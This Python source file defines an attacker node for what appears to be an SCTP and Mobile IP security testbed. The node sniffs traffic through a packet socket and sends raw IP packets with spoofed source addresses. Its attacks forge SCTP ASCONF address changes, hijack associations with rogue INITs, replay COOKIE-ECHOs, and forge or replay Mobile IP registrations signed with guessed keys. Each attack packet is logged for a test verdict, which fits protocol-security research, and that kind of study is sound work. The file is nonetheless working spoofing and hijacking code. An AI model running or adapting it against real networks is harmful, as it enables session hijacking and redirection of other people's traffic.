"""An attacker: it overhears what passes its host, and sends packets that others never wrote.

It has no part in the kernel's stack. What it sends leaves a raw socket with whatever source address it likes; what is sent to
the addresses that it owns it reads from a packet socket, for its kernel does not know them. Every packet of an attack is an
event ``attack.sent``, so that a verdict can look for it in the capture.
"""

from __future__ import annotations

import os
import socket
import struct
from ipaddress import IPv4Address
from typing import Any, Final

from nodes.agent import Agent, now_ns
from nodes.rewriter import parameter
from protocols import ip
from protocols.errors import DecodeError
from protocols.forging import Caller, Overheard, Signing
from protocols.mobileip.authentication import SecurityAssociation, sign
from protocols.mobileip.extensions import MOBILE_HOME
from protocols.mobileip.identification import timestamp
from protocols.mobileip.registration import PORT, RegistrationRequest, RequestFlags
from protocols.rewriting import OWN_IDS
from protocols.transport import Udp

_ETH_P_ALL: Final = 0x0003
_OUTGOING: Final = 4  # PACKET_OUTGOING
_RAW_IP: Final = 101  # LINKTYPE_RAW
_SCTP, _UDP = 132, 17
_IP: Final = struct.Struct("!BBHHHBBH4s4s")
_UDP_HEADER: Final = struct.Struct("!HHHH")
_SPI: Final = 256  # that of every mobile node here, and easy to guess


class AttackerNode(Agent):
    """Knows an association from what it overhears (``do_overhear``) or is told (``do_learn``)."""

    def __init__(self, name: str, control: Any) -> None:
        super().__init__(name, control)
        self._known = Overheard()
        self._overhears = False
        self._told = False
        self._own: set[IPv4Address] = set()
        self._caller: Caller | None = None
        self._requests: dict[bool, tuple[IPv4Address, IPv4Address, bytes]] = {}
        self._out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._in = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ETH_P_ALL))
        self._in.setblocking(False)
        self.on_readable(self._in, self._passing)

    # -- commands ----------------------------------------------------------------------------------------------------

    def do_overhear(self) -> None:
        """Learn from all that passes. Reports ``attack.overheard`` with addresses and ports once."""
        self._overhears = True

    def do_learn(self, mobile: str, correspondent: str, sport: int, dport: int) -> None:
        """Be told addresses and ports, and guess the tag and the serial number."""
        tag, serial = struct.unpack("!II", os.urandom(8))
        self._known = Overheard(
            IPv4Address(mobile), IPv4Address(correspondent), sport, dport, tag=tag, serial=serial
        )

    def do_own(self, addresses: list[str]) -> None:
        """Answer what is sent to these addresses as an end of the association would."""
        self._own |= {IPv4Address(address) for address in addresses}

    def do_asconf(self, act: int, source: str, requests: list[dict[str, str]], signing: str) -> None:
        """Send an ASCONF in the mobile node's name from ``source``."""
        wanted = [parameter(r["verb"], r["address"], OWN_IDS + n) for n, r in enumerate(requests)]
        self._attack(act, IPv4Address(source), self._known.asconf(wanted, Signing(signing)), forged=True)

    def do_restart(self, act: int, source: str, addresses: list[str]) -> None:
        """Send an INIT from ``source`` and the mobile node's port that lists ``addresses``."""
        self._call(act, source, addresses)

    def do_camp(self, act: int, source: str, addresses: list[str]) -> None:
        """Set up an association from ``source`` and the mobile node's port; ASCONFs of ``do_claim`` are its own."""
        self._own.add(IPv4Address(source))
        self._call(act, source, addresses)

    def do_claim(self, act: int, source: str, requests: list[dict[str, str]]) -> None:
        """Send an ASCONF in the association that ``do_camp`` set up."""
        assert self._caller
        wanted = [parameter(r["verb"], r["address"], OWN_IDS + n) for n, r in enumerate(requests)]
        self._attack(act, IPv4Address(source), self._caller.asconf(wanted))

    def do_cookie(self, act: int, source: str) -> None:
        """Send the overheard COOKIE-ECHO once more, from ``source``."""
        self._attack(act, IPv4Address(source), self._known.cookie_echo)

    def do_register(
        self,
        act: int,
        source: str,
        home_address: str,
        home_agent: str,
        care_of: str,
        lifetime: int,
        authenticated: bool,
    ) -> None:
        """Send a Registration Request in the mobile node's name, signed with a made-up key or not at all."""
        request = RegistrationRequest(
            RequestFlags.D,
            lifetime,
            IPv4Address(home_address),
            IPv4Address(home_agent),
            IPv4Address(care_of),
            timestamp(now_ns()),
        )
        if authenticated:
            request = sign(request, MOBILE_HOME, SecurityAssociation(_SPI, os.urandom(16)))
        self._register(act, IPv4Address(source), IPv4Address(home_agent), request.encode())

    def do_again(self, act: int, deregistration: bool) -> None:
        """Send the last overheard registration (or deregistration) once more, from the address that it came from."""
        if (overheard := self._requests.get(deregistration)) is None:
            self.emit("attack.unsent", reason="no such registration was overheard")
        else:
            self._register(act, *overheard)

    # -- what passes -------------------------------------------------------------------------------------------------

    def _passing(self) -> None:
        while True:
            try:
                data, address = self._in.recvfrom(65536)
            except BlockingIOError:
                return
            if data and data[0] >> 4 == 4:
                self._saw(data, outgoing=address[2] == _OUTGOING)

    def _saw(self, data: bytes, *, outgoing: bool) -> None:
        try:
            datagram = ip.decode(_RAW_IP, data)
        except DecodeError:
            return
        if not isinstance(datagram, ip.Datagram):
            return
        source, destination = datagram.source, datagram.destination
        if not isinstance(source, IPv4Address) or not isinstance(destination, IPv4Address):
            return
        if self._overhears and datagram.protocol == _UDP:
            self._heard(source, destination, datagram.payload)
        if datagram.protocol != _SCTP:
            return
        if self._overhears:
            self._learn(source, destination, datagram.payload)
        if destination in self._own and not outgoing:
            reply = (self._caller or self._known).answer(datagram.payload)
            if reply is not None:
                self._put(destination, source, _SCTP, reply)

    def _learn(self, source: IPv4Address, destination: IPv4Address, data: bytes) -> None:
        known = self._known
        known.see(source, destination, data)
        if known.tag and not self._told:
            self._told = True
            self.emit(
                "attack.overheard",
                mobile=str(known.mobile),
                correspondent=str(known.correspondent),
                sport=known.sport,
                dport=known.dport,
            )

    def _heard(self, source: IPv4Address, destination: IPv4Address, data: bytes) -> None:
        try:
            udp = Udp.decode(data)
            request = RegistrationRequest.decode(udp.payload)
        except DecodeError:
            return
        if udp.dport == PORT:
            self._requests[request.deregisters] = source, destination, udp.payload

    # -- what is sent ------------------------------------------------------------------------------------------------

    def _call(self, act: int, source: str, addresses: list[str]) -> None:
        tag, tsn = struct.unpack("!II", os.urandom(8))
        listed = tuple(IPv4Address(address) for address in addresses)
        self._caller = Caller(self._known.sport, self._known.dport, tag, tsn, os.urandom(32), listed)
        self._attack(act, IPv4Address(source), self._caller.init())

    def _attack(self, act: int, source: IPv4Address, data: bytes, *, forged: bool = False) -> None:
        destination = self._known.correspondent
        if destination is None:
            self.emit("attack.unsent", reason="no association was overheard")
            return
        self.emit("attack.sent", act=act, source=str(source), data=data.hex(), forged=forged, udp=False)
        self._put(source, destination, _SCTP, data)

    def _register(self, act: int, source: IPv4Address, destination: IPv4Address, data: bytes) -> None:
        self.emit("attack.sent", act=act, source=str(source), data=data.hex(), forged=True, udp=True)
        header = _UDP_HEADER.pack(
            PORT, PORT, _UDP_HEADER.size + len(data), 0
        )  # IPv4 lets a checksum be left out
        self._put(source, destination, _UDP, header + data)

    def _put(self, source: IPv4Address, destination: IPv4Address, protocol: int, data: bytes) -> None:
        header = _IP.pack(0x45, 0, 20 + len(data), 0, 0, 64, protocol, 0, source.packed, destination.packed)
        self._out.sendto(header + data, (str(destination), 0))
